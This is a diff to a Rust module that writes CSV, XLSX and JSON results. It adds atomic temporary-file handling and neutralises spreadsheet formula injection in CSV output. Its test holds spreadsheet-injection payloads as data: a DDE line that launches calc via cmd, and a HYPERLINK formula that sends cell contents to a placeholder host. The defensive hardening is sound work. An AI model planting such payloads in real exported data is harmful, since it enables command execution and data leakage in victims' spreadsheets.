@@ -1,11 +1,16 @@
 //! Writing results: tables as CSV, XLSX and JSON, the rejects file, and the
 //! human summary. Files are written to a temporary name and renamed, so a
-//! reader never sees half a file.
+//! reader never sees half a file; a run's files are renamed together
+//! ([`staging`]), one run at a time per output folder ([`lock`]), never
+//! through a link leading out of the project ([`links`]).
 
 pub mod analysis;
 pub mod diagnostics;
 pub mod diff;
+pub mod links;
+pub mod lock;
 pub mod movements;
+pub mod staging;
 pub mod summary;
 pub mod table;
 pub mod xlsx;
@@ -19,27 +24,62 @@ use table::{Table, Value};
 pub fn write_atomically(path: &Path, bytes: &[u8]) -> std::io::Result<()> {
     let dir = path.parent().filter(|p| !p.as_os_str().is_empty()).unwrap_or(Path::new("."));
     std::fs::create_dir_all(dir)?;
-    let name = path.file_name().map(|n| n.to_string_lossy().into_owned()).unwrap_or_default();
-    let tmp = dir.join(format!(".{name}.{}.tmp", std::process::id()));
-    let result = (|| {
-        let mut file = std::fs::File::create(&tmp)?;
-        file.write_all(bytes)?;
-        file.sync_all()?;
-        std::fs::rename(&tmp, path)
-    })();
+    let tmp = temp_path(path, None);
+    let result = write_new(&tmp, bytes).and_then(|()| std::fs::rename(&tmp, path));
     if result.is_err() {
         let _ = std::fs::remove_file(&tmp);
     }
     result
 }
 
-/// The table as CSV (plain number format, RFC 4180 quoting, `\n` line ends).
+/// The temporary name beside `path` for this process: `.NAME.PID.tmp`, or
+/// `.NAME.TAG.PID.tmp`. Hidden, and recognisable as kamplan's when a killed
+/// run leaves it behind ([`staging::is_stale_temporary`]).
+pub fn temp_path(path: &Path, tag: Option<&str>) -> std::path::PathBuf {
+    let name = path.file_name().map(|n| n.to_string_lossy().into_owned()).unwrap_or_default();
+    let tag = tag.map(|t| format!("{t}.")).unwrap_or_default();
+    path.with_file_name(format!(".{name}.{tag}{}.tmp", std::process::id()))
+}
+
+/// Writes `bytes` to a new file at `path` (its folder created), flushed to disk.
+fn write_new(path: &Path, bytes: &[u8]) -> std::io::Result<()> {
+    if let Some(dir) = path.parent().filter(|p| !p.as_os_str().is_empty()) {
+        std::fs::create_dir_all(dir)?;
+    }
+    let mut file = std::fs::File::create(path)?;
+    file.write_all(bytes)?;
+    file.sync_all()
+}
+
+/// A text cell as written to CSV: one that a spreadsheet would run as a
+/// formula (starting with `=`, `+`, `-`, `@`, a tab or a carriage return)
+/// gets a leading `'`, which spreadsheets show as text. Numbers are written
+/// as they are, never through this.
+pub fn csv_text(text: &str) -> std::borrow::Cow<'_, str> {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        std::borrow::Cow::Owned(format!("'{text}"))
+    } else {
+        std::borrow::Cow::Borrowed(text)
+    }
+}
+
+/// A value as written to CSV: its plain form, text cells made safe.
+fn csv_cell(value: &Value) -> String {
+    match value {
+        Value::Text(t) => csv_text(t).into_owned(),
+        other => other.plain(),
+    }
+}
+
+/// The table as CSV (plain number format, RFC 4180 quoting, `\n` line ends,
+/// text cells safe in spreadsheets: [`csv_text`]).
 pub fn table_csv(table: &Table) -> Vec<u8> {
     let mut writer =
         csv::WriterBuilder::new().terminator(csv::Terminator::Any(b'\n')).from_writer(Vec::new());
-    writer.write_record(table.columns.iter().map(|c| c.name.as_str())).expect("writing to memory");
+    let header = table.columns.iter().map(|c| csv_text(&c.name));
+    writer.write_record(header.map(|c| c.into_owned())).expect("writing to memory");
     for row in &table.rows {
-        writer.write_record(row.iter().map(Value::plain)).expect("writing to memory");
+        writer.write_record(row.iter().map(csv_cell)).expect("writing to memory");
     }
     writer.into_inner().expect("writing to memory")
 }
@@ -78,6 +118,7 @@ fn json_value(value: &Value) -> serde_json::Value {
 
 /// `rejects.csv`: one row per rejected line, in file and line order, with
 /// file paths relative to `base` (the project folder) where they are inside it.
+/// The line's content and the other texts are made safe for spreadsheets ([`csv_text`]).
 pub fn rejects_csv(rejects: &[Reject], base: &Path) -> Vec<u8> {
     let mut writer =
         csv::WriterBuilder::new().terminator(csv::Terminator::Any(b'\n')).from_writer(Vec::new());
@@ -87,14 +128,49 @@ pub fn rejects_csv(rejects: &[Reject], base: &Path) -> Vec<u8> {
     for r in rejects {
         writer
             .write_record([
-                r.file.strip_prefix(base).unwrap_or(&r.file).display().to_string(),
+                csv_text(&r.file.strip_prefix(base).unwrap_or(&r.file).display().to_string())
+                    .into_owned(),
                 r.line.to_string(),
                 r.column.map(|c| c.to_string()).unwrap_or_default(),
-                r.field.unwrap_or_default().to_string(),
-                r.reason.clone(),
-                r.content.clone(),
+                csv_text(r.field.unwrap_or_default()).into_owned(),
+                csv_text(&r.reason).into_owned(),
+                csv_text(&r.content).into_owned(),
             ])
             .expect("writing to memory");
     }
     writer.into_inner().expect("writing to memory")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use table::ColumnKind;
+
+    #[test]
+    fn text_cells_that_a_spreadsheet_would_run_are_neutralised_and_numbers_are_not() {
+        let table = Table {
+            columns: table::columns(&[("name", ColumnKind::Text), ("margin", ColumnKind::Money)]),
+            rows: vec![
+                vec![
+                    Value::Text("=HYPERLINK(\"http://x\"&A1,\"click\")".into()),
+                    Value::Amount(crate::model::Amount::parse_plain("-12.50").unwrap()),
+                ],
+                vec![Value::Text("+cmd|' /C calc'!A0".into()), Value::Number(-1.5)],
+                vec![Value::Text("-2".into()), Value::Null],
+                vec![Value::Text("@SUM(A1)".into()), Value::Count(3)],
+                vec![Value::Text("\tx".into()), Value::Null],
+                vec![Value::Text("Rossi = Figli".into()), Value::Null],
+            ],
+        };
+        let text = String::from_utf8(table_csv(&table)).unwrap();
+        let mut reader = csv::Reader::from_reader(text.as_bytes());
+        let rows: Vec<Vec<String>> =
+            reader.records().map(|r| r.unwrap().iter().map(String::from).collect()).collect();
+        assert_eq!(rows[0], ["'=HYPERLINK(\"http://x\"&A1,\"click\")", "-12.50"]);
+        assert_eq!(rows[1], ["'+cmd|' /C calc'!A0", "-1.5"]);
+        assert_eq!(rows[2], ["'-2", ""]);
+        assert_eq!(rows[3], ["'@SUM(A1)", "3"]);
+        assert_eq!(rows[4], ["'\tx", ""]);
+        assert_eq!(rows[5], ["Rossi = Figli", ""]);
+    }
 }
